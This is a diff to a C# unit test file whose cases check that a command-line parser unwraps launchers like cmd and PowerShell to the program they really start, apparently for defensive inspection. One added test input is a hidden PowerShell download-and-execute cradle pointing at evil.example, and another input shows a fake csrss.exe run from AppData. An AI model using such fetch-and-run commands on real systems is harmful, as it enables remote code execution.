@@ -98,6 +98,10 @@ public sealed class CommandLineTests
     [InlineData(@"""C:\Program Files\x y\a.exe""", "", @"C:\Program Files\x y\a.exe", @"C:\Program Files\x y\a.exe", "direct")]
     [InlineData(@"\??\C:\Windows\system32\csrss.exe ObjectDirectory=\Windows", null, @"C:\Windows\system32\csrss.exe", @"C:\Windows\system32\csrss.exe", "direct")]
     [InlineData("%ComSpec%", @"/c start """" ""%APPDATA%\Microsoft\Crypto\csrss.exe"" -s", @"C:\Windows\System32\cmd.exe", @"%APPDATA%\Microsoft\Crypto\csrss.exe", "cmd>start")]
+    [InlineData(@"C:\Windows\system32\userinit.exe,", null, @"C:\Windows\system32\userinit.exe", @"C:\Windows\system32\userinit.exe", "direct")]
+    [InlineData(@"System32\drivers\tcpip.sys", null, @"C:\Windows\System32\drivers\tcpip.sys", @"C:\Windows\System32\drivers\tcpip.sys", "direct")]
+    [InlineData(@"powershell -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')""", null, "powershell", "http://evil.example/a.ps1", "powershell")]
+    [InlineData(@"cmd /c ""C:\x y\a.exe""", null, "cmd", @"C:\x y\a.exe", "cmd")]
     public void ResolveTarget_unwraps_launchers(string command, string? arguments, string executable, string target, string via)
     {
         var resolved = CommandLine.ResolveTarget(command, arguments);
